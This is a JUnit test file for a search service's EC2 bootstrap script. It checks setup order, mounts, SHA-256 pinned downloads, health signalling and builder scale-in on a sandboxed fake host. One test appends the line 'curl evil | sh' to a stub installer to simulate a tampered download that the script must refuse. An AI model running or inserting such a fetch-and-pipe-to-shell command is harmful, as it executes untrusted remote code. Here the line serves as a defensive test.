package dev.docsearch.infra;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Runs the rendered user data (scripts/host/bootstrap.sh) of a serving host and of the builder on a fake host: stub
 * commands first on PATH and every file it writes under a temporary ROOT_PREFIX. Checks the order of its steps, the
 * files it leaves, the pinned downloads, the readiness signal, the builder's start and scale-in, its failure
 * messages and that a second run changes nothing.
 */
class HostBootstrapTest {

  static final String FS_ID = "fs-0123456789abcdef01";
  static final String SERVING_MOUNT_LINE = FS_ID + ":/ /mnt/artifacts s3files _netdev,nofail,ro 0 0";
  static final String BUILDER_MOUNT_LINE = FS_ID + ":/ /mnt/artifacts s3files _netdev,nofail 0 0";
  static final String INSTALLER_URL = "https://amazon-efs-utils.aws.com/efs-utils-installer.sh";
  static final String AGENT_URL = "https://amazoncloudwatch-agent.s3.amazonaws.com/ubuntu/amd64/1.0/"
      + "amazon-cloudwatch-agent.deb";
  /** What AWS's installer does, as far as the bootstrap can tell: a package and its S3 Files config. */
  static final String INSTALLER = "#!/bin/sh\n"
      + "mkdir -p \"$STUB_STATE/pkg\" \"$ROOT_PREFIX/etc/amazon/efs\"\n"
      + "echo \"${STUB_INSTALLER_EFS_VERSION:-3.0.1}\" >\"$STUB_STATE/pkg/amazon-efs-utils\"\n"
      + "printf '[proxy]\\nmetrics_enabled = true\\n\\n[cloudwatch-log]\\nenabled = true\\n"
      + "log_group_name = /aws/efs/utils\\nretention_in_days = 14\\n' >\"$ROOT_PREFIX/etc/amazon/efs/s3files-utils.conf\"\n";
  static final String AGENT_DEB = "!<arch> cloudwatch agent\n";

  @TempDir
  Path dir;
  HostSandbox host;
  Path pinned;

  @BeforeEach
  void fakeDownloads() throws IOException {
    host = new HostSandbox(dir);
    Path downloads = Files.createDirectories(host.state.resolve("downloads"));
    Files.writeString(downloads.resolve("efs-utils-installer.sh"), INSTALLER);
    Files.writeString(downloads.resolve("amazon-cloudwatch-agent.deb"), AGENT_DEB);
    pinned = dir.resolve("pinned-downloads");
    Files.writeString(pinned, "efs-utils-installer " + sha256(INSTALLER) + " " + INSTALLER_URL + "\n"
        + "cloudwatch-agent " + sha256(AGENT_DEB) + " " + AGENT_URL + "\n");
  }

  private Path userData(HostBootstrapScript.Role role) {
    boolean serving = role == HostBootstrapScript.Role.SERVING;
    return host.executable("user-data-" + role + ".sh", HostBootstrapScript.render(new HostBootstrapScript.Values(
        role, FS_ID, "eu-west-1", "s3://cdk-assets-eu-west-1/service0123.jar",
        "s3://cdk-assets-eu-west-1/pipeline0123.jar", 8080, "/docsearch/test/host", "Docsearch",
        serving ? "SearchHostGroupASG1234ABCD" : "", serving ? "Docsearch-BuilderGroup-0ABC" : "")));
  }

  private HostSandbox.Run boot(HostBootstrapScript.Role role, Map<String, String> env) {
    return host.run(userData(role), Map.of("PINNED_DOWNLOADS_FILE", pinned.toString(),
        "READY_TIMEOUT_SECONDS", "2", "READY_RETRY_SECONDS", "0.2"), env);
  }

  private HostSandbox.Run serve(Map<String, String> env) {
    return boot(HostBootstrapScript.Role.SERVING, env);
  }

  private HostSandbox.Run serve() {
    return serve(Map.of());
  }

  private HostSandbox.Run build(Map<String, String> env) {
    return boot(HostBootstrapScript.Role.BUILDER, env);
  }

  private static void assertBootFailed(HostSandbox.Run run, String... said) {
    assertThat(run.exitCode()).isNotZero();
    assertThat(run.output()).contains(said);
  }

  private String file(String path) throws IOException {
    return Files.readString(host.root.resolve(path));
  }

  private void publishedRelease() throws IOException {
    Files.createDirectories(host.root.resolve("mnt/artifacts"));
    Files.writeString(host.root.resolve("mnt/artifacts/CURRENT"), "20250101T000000Z\n");
  }

  // ---- serving ----------------------------------------------------------------------------------------------

  @Test
  void aFreshServingHostIsSetUpInOrderAndSignalsSuccessLast() {
    // No release yet: the service answers 503 until the builder has published the first one.
    HostSandbox.Run run = serve(Map.of("STUB_HEALTH_CODE", "503"));

    assertThat(run.exitCode()).as(run.output()).isZero();
    int packages = run.indexOf("apt-get install -y -q --no-install-recommends openjdk-17-jre-headless libgomp1");
    int efsUtils = run.indexOf("curl -fsSL --retry 3 -o " + dir.resolve("tmp"));
    assertThat(run.calls().get(efsUtils)).endsWith(INSTALLER_URL);
    int cli = run.indexOf("snap install aws-cli --classic");
    int user = run.indexOf("useradd --system --uid 2001 --gid 2001");
    int mount = run.indexOf("mount -t s3files -o ro " + FS_ID + ":/ " + host.root.resolve("mnt/artifacts"));
    int serviceJar = run.indexOf("aws s3 cp --only-show-errors --region eu-west-1 "
        + "s3://cdk-assets-eu-west-1/service0123.jar");
    int agent = run.indexOf("amazon-cloudwatch-agent-ctl -a fetch-config");
    int scrape = run.indexOf("amazon-cloudwatch-agent-ctl -a append-config -m ec2 -s -c file:"
        + host.root.resolve("opt/aws/amazon-cloudwatch-agent/etc/docsearch-prometheus.json"));
    int start = run.indexOf("systemctl restart docsearch.service");
    int firstBuild = run.indexOf("aws autoscaling set-desired-capacity --region eu-west-1 "
        + "--auto-scaling-group-name Docsearch-BuilderGroup-0ABC --desired-capacity 1");
    int health = run.indexOf("curl -sS -o");
    int signal = run.indexOf("aws cloudformation signal-resource --region eu-west-1 --stack-name Docsearch "
        + "--logical-resource-id SearchHostGroupASG1234ABCD --unique-id i-0123456789abcdef0 --status SUCCESS");
    assertThat(List.of(packages, cli, efsUtils, user, mount, serviceJar, agent, scrape, start, firstBuild, health,
        signal)).isSorted();
    assertThat(signal).isEqualTo(run.calls().size() - 1);
    assertThat(run.output()).contains("no release in /mnt/artifacts yet: started the builder")
        .contains("ready: the service runs and waits for the first release")
        .contains("signalled SUCCESS for i-0123456789abcdef0");
  }

  @Test
  void aServingHostMountsReadOnlyRunsOnlyTheServiceAndPointsEfsUtilsAtTheHostLogGroup() throws IOException {
    HostSandbox.Run run = serve();
    assertThat(run.exitCode()).as(run.output()).isZero();

    assertThat(file("etc/fstab")).isEqualTo(SERVING_MOUNT_LINE + "\n");
    assertThat(run.called("chown")).isFalse();
    assertThat(Files.readAllLines(host.state.resolve("passwd")))
        .containsExactly("docsearch:x:2001:2001::/opt/docsearch:/usr/sbin/nologin");
    assertThat(file("opt/docsearch/lib/docsearch-service.jar")).startsWith("PK");
    // The CloudWatch agent scrapes the management listener, and the scrape config is where the agent's says.
    assertThat(file("opt/aws/amazon-cloudwatch-agent/etc/docsearch-prometheus.yaml"))
        .contains("job_name: docsearch", "targets: [\"127.0.0.1:9100\"]", "metrics_path: /metrics");
    JsonNode prometheus = new ObjectMapper().readTree(file("opt/aws/amazon-cloudwatch-agent/etc/docsearch-prometheus.json"))
        .at("/logs/metrics_collected/prometheus");
    assertThat(prometheus.path("prometheus_config_path").asText())
        .isEqualTo("/opt/aws/amazon-cloudwatch-agent/etc/docsearch-prometheus.yaml");
    assertThat(prometheus.path("log_group_name").asText()).isEqualTo("/docsearch/test/host");
    assertThat(prometheus.at("/emf_processor/metric_namespace").asText()).isEqualTo("Docsearch");
    assertThat(prometheus.at("/emf_processor/metric_declaration").toString())
        .contains("docsearch_search_latency_seconds", "docsearch_http_client_refusals_total");
    assertThat(file("etc/systemd/system/docsearch.service")).contains("Environment=PORT=8080",
        "Environment=METRICS_PORT=9100", "Environment=METRICS_BIND=127.0.0.1",
        "Environment=TRUSTED_PROXIES=0.0.0.0/0,::/0",
        "ReadOnlyPaths=/mnt/artifacts", "RequiresMountsFor=/mnt/artifacts");
    assertThat(host.root.resolve("etc/systemd/system/docsearch-reindex.service")).doesNotExist();
    assertThat(host.root.resolve("opt/docsearch/bin/reindex")).doesNotExist();
    assertThat(file("etc/amazon/efs/s3files-utils.conf")).contains("metrics_enabled = false",
        "log_group_name = /docsearch/test/host", "# retention_in_days = 14").doesNotContain("/aws/efs/utils");
    assertThat(file("var/log/docsearch-bootstrap.log")).contains("downloaded efs-utils-installer (" + INSTALLER_URL
        + ", SHA-256 verified)").contains("signalled SUCCESS");
  }

  @Test
  void aSecondRunChangesNothing() throws IOException {
    publishedRelease();
    HostSandbox.Run first = serve();
    assertThat(first.exitCode()).as(first.output()).isZero();
    Map<String, String> before = host.snapshot("var/log/docsearch-bootstrap.log");

    HostSandbox.Run second = serve();

    assertThat(second.exitCode()).as(second.output()).isZero();
    assertThat(host.snapshot("var/log/docsearch-bootstrap.log")).isEqualTo(before);
    for (String change : List.of("apt-get", "curl -fsSL", "snap", "useradd", "groupadd", "mount -t", "dpkg -i",
        "amazon-cloudwatch-agent-ctl", "systemctl daemon-reload", "systemctl restart", "systemctl enable",
        "aws autoscaling")) {
      assertThat(second.called(change)).as("second run called " + change + "\n" + second.calls()).isFalse();
    }
  }

  @Test
  void newJarsRestartTheServiceAndNothingElse() throws IOException {
    publishedRelease();
    assertThat(serve().exitCode()).isZero();

    HostSandbox.Run redeploy = serve(Map.of("STUB_JAR_VERSION", "2"));

    assertThat(redeploy.exitCode()).as(redeploy.output()).isZero();
    assertThat(redeploy.called("systemctl restart docsearch.service")).isTrue();
    assertThat(redeploy.called("systemctl daemon-reload")).isFalse();
  }

  @Test
  void withAReleaseTheBuilderIsNotStartedAndReadinessNeedsHealthOk() throws IOException {
    publishedRelease();

    HostSandbox.Run run = serve();

    assertThat(run.exitCode()).as(run.output()).isZero();
    assertThat(run.called("aws autoscaling")).isFalse();
    assertThat(run.output()).contains("ready: /health is ok ({\"status\":\"ok\"})");
  }

  @Test
  void aServiceThatNeverGetsHealthyFailsTheBootAndSignalsFailure() throws IOException {
    publishedRelease();

    HostSandbox.Run run = serve(Map.of("STUB_HEALTH_CODE", "503"));

    assertBootFailed(run, "FAILED: docsearch.service did not report /health ok within 2s "
        + "(last answer: HTTP 503");
    assertThat(run.calls().get(run.calls().size() - 1)).endsWith("--status FAILURE");
  }

  @Test
  void aServiceThatIsNotListeningFailsTheBootEvenOnAFirstDeploy() {
    HostSandbox.Run run = serve(Map.of("STUB_HEALTH_CODE", "none"));

    assertBootFailed(run, "did not report /health ok within 2s");
    assertThat(run.calls().get(run.calls().size() - 1)).endsWith("--status FAILURE");
  }

  @Test
  void anOlderFstabEntryForTheMountPointIsReplacedAndOthersKept() throws IOException {
    Files.createDirectories(host.root.resolve("etc"));
    Files.writeString(host.root.resolve("etc/fstab"), "LABEL=cloudimg-rootfs / ext4 defaults 0 1\n"
        + "fs-00000000000000000:/ /mnt/artifacts s3files _netdev 0 0\n");

    HostSandbox.Run run = serve();

    assertThat(run.exitCode()).as(run.output()).isZero();
    assertThat(file("etc/fstab")).isEqualTo("LABEL=cloudimg-rootfs / ext4 defaults 0 1\n" + SERVING_MOUNT_LINE
        + "\n");
  }

  @Test
  void aMountThatNeverAppearsFailsWithAClearLineStartsNothingAndSignalsFailure() throws IOException {
    HostSandbox.Run run = serve(Map.of("STUB_MOUNT_FAIL", "1", "MOUNT_TIMEOUT_SECONDS", "2",
        "MOUNT_RETRY_SECONDS", "0.5"));

    assertBootFailed(run, "access denied by server",
        "FAILED: S3 Files file system " + FS_ID + " did not mount at /mnt/artifacts within 2s");
    assertThat(file("var/log/docsearch-bootstrap.log")).contains("did not mount at /mnt/artifacts within 2s")
        .contains("signalled FAILURE for i-0123456789abcdef0");
    assertThat(run.called("aws s3 cp")).isFalse();
    assertThat(run.called("systemctl")).isFalse();
    assertThat(run.calls().get(run.calls().size() - 1)).endsWith("--status FAILURE");
  }

  @Test
  void anUnpinnedDownloadIsFetchedWithAWarningThatGivesItsChecksum() throws IOException {
    Files.writeString(pinned, "efs-utils-installer UNPINNED " + INSTALLER_URL + "\n"
        + "cloudwatch-agent " + sha256(AGENT_DEB) + " " + AGENT_URL + "\n");

    HostSandbox.Run run = serve();

    assertThat(run.exitCode()).as(run.output()).isZero();
    assertThat(file("var/log/docsearch-bootstrap.log"))
        .contains("WARNING: efs-utils-installer is not pinned: downloaded from " + INSTALLER_URL
            + " over HTTPS without a checksum check (SHA-256 " + sha256(INSTALLER) + ")")
        .contains("downloaded cloudwatch-agent (" + AGENT_URL + ", SHA-256 verified)")
        .contains("signalled SUCCESS");
  }

  @Test
  void aPinThatIsNeitherAChecksumNorUnpinnedStopsTheBoot() throws IOException {
    Files.writeString(pinned, "efs-utils-installer TODO " + INSTALLER_URL + "\n"
        + "cloudwatch-agent " + sha256(AGENT_DEB) + " " + AGENT_URL + "\n");

    HostSandbox.Run run = serve();

    assertBootFailed(run, "FAILED: pinned-downloads: 'TODO' for efs-utils-installer is neither a SHA-256");
    assertThat(run.called("curl -fsSL")).isFalse();
    assertThat(run.calls().get(run.calls().size() - 1)).endsWith("--status FAILURE");
  }

  @Test
  void aDownloadWhoseChecksumChangedIsRefusedAndNotRun() throws IOException {
    Files.writeString(host.state.resolve("downloads/efs-utils-installer.sh"), INSTALLER + "curl evil | sh\n");

    HostSandbox.Run run = serve();

    assertBootFailed(run, "FAILED: efs-utils-installer from " + INSTALLER_URL
        + " does not have the pinned SHA-256 " + sha256(INSTALLER));
    assertThat(run.called("mount")).isFalse();
  }

  @Test
  void anEfsUtilsOlderThanThreeIsNotAccepted() {
    HostSandbox.Run run = serve(Map.of("STUB_INSTALLER_EFS_VERSION", "2.4.1"));

    assertBootFailed(run, "FAILED: AWS's installer did not give amazon-efs-utils >= 3.0.0 "
        + "(found: '2.4.1')");
    assertThat(run.called("mount")).isFalse();
  }

  @Test
  void thePlaceholderJarIsRefusedWithWhatToDo() {
    HostSandbox.Run run = serve(Map.of("STUB_PLACEHOLDER", "1"));

    assertBootFailed(run, "FAILED: docsearch-service.jar from s3://cdk-assets-eu-west-1/service0123.jar "
        + "is not a jar: docsearch placeholder, not a jar",
        "build the jars (mvn -B package) and run cdk deploy again");
    assertThat(run.called("systemctl")).isFalse();
    assertThat(run.calls().get(run.calls().size() - 1)).endsWith("--status FAILURE");
  }

  // ---- builder ----------------------------------------------------------------------------------------------

  @Test
  void aFreshBuilderMountsReadWriteAndStartsTheBuilderUnitWithoutSignalling() throws IOException {
    HostSandbox.Run run = build(Map.of());

    assertThat(run.exitCode()).as(run.output()).isZero();
    assertThat(file("etc/fstab")).isEqualTo(BUILDER_MOUNT_LINE + "\n");
    assertThat(run.called("mount -t s3files " + FS_ID)).isTrue();
    assertThat(Files.getAttribute(host.root.resolve("mnt/artifacts"), "unix:uid")).isEqualTo(2001);
    assertThat(file("etc/docsearch/builder.env"))
        .isEqualTo("AWS_REGION=eu-west-1\nBUILDER_GROUP=Docsearch-BuilderGroup-0ABC\n");
    assertThat(file("etc/systemd/system/docsearch-builder.service")).contains("Type=oneshot",
        "EnvironmentFile=/etc/docsearch/builder.env", "ExecStart=/opt/docsearch/bin/build-once");
    assertThat(file("etc/systemd/system/docsearch-reindex.service")).contains("ExecStart=/opt/docsearch/bin/reindex",
        "User=docsearch", "TimeoutStartSec=6h");
    assertThat(Files.isExecutable(host.root.resolve("opt/docsearch/bin/build-once"))).isTrue();
    assertThat(host.root.resolve("etc/systemd/system/docsearch.service")).doesNotExist();
    int reload = run.indexOf("systemctl daemon-reload");
    int builder = run.indexOf("systemctl start --no-block docsearch-builder.service");
    assertThat(reload).isLessThan(builder);
    assertThat(run.called("aws cloudformation")).isFalse();
    assertThat(run.called("aws autoscaling")).isFalse();
    assertThat(run.called("systemctl restart docsearch.service")).isFalse();
    // No service here, so nothing to scrape.
    assertThat(run.called("amazon-cloudwatch-agent-ctl -a append-config")).isFalse();
    assertThat(host.root.resolve("opt/aws/amazon-cloudwatch-agent/etc/docsearch-prometheus.yaml")).doesNotExist();
  }

  @Test
  void aBuilderWhoseBootFailsScalesItsOwnGroupToZero() {
    HostSandbox.Run run = build(Map.of("STUB_MOUNT_FAIL", "1", "MOUNT_TIMEOUT_SECONDS", "1",
        "MOUNT_RETRY_SECONDS", "0.5"));

    assertThat(run.exitCode()).isNotZero();
    assertThat(run.calls().get(run.calls().size() - 1)).isEqualTo("aws autoscaling set-desired-capacity --region "
        + "eu-west-1 --auto-scaling-group-name Docsearch-BuilderGroup-0ABC --desired-capacity 0");
    assertThat(run.output()).contains("boot failed: scaled Docsearch-BuilderGroup-0ABC to 0");
    assertThat(run.called("aws cloudformation")).isFalse();
  }

  static String sha256(String text) {
    try {
      return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256")
          .digest(text.getBytes(StandardCharsets.UTF_8)));
    } catch (NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }
}
